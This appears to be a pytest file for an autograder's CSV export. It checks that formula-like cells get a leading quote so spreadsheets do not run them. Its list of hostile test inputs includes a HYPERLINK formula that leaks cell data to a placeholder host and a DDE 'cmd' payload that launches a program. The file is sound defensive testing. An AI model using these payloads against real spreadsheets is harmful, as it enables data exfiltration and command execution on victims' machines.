"""Every CSV ``autograder grade`` writes neutralises spreadsheet formulas (issue 21.4).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return and is not a
plain number gets OWASP's leading ``'``; the HTML reports keep the original text. The
whole batch is checked in tests/test_batch_trust.py (names from an export).
"""

from __future__ import annotations

import ast
import csv
from pathlib import Path

import pytest

from autograder import paths
from autograder.classroom.reports.csvsafe import safe_cell, write_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "-",
]
NUMBERS = ["-1", "+0.5", "-2.5e-3", "100", "0", "3.3333", ".5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", [*NUMBERS, "Ada Lovelace", "ada@example.edu", "a=b", "", "1-2"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_non_text_values() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(-1) == "-1" and safe_cell(-0.25) == "-0.25" and safe_cell(3) == "3"


def test_write_rows_neutralises_every_cell_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_rows(path, ["id", "=head"], [[text, -1] for text in HOSTILE])
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["id", "'=head"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"-1"}


def test_no_report_writes_a_csv_around_the_helper() -> None:
    """Every CSV writer of the package goes through csvsafe (one place to neutralise)."""
    offenders = []
    for path in sorted((paths.ROOT / "autograder").rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
                    and node.value.id == "csv" and node.attr in ("writer", "DictWriter")):
                offenders.append(f"{path.relative_to(paths.ROOT)}:{node.lineno}")
    assert not offenders, (
        "write CSV rows with autograder.classroom.reports.csvsafe (write_rows / writer): "
        + ", ".join(offenders)
    )
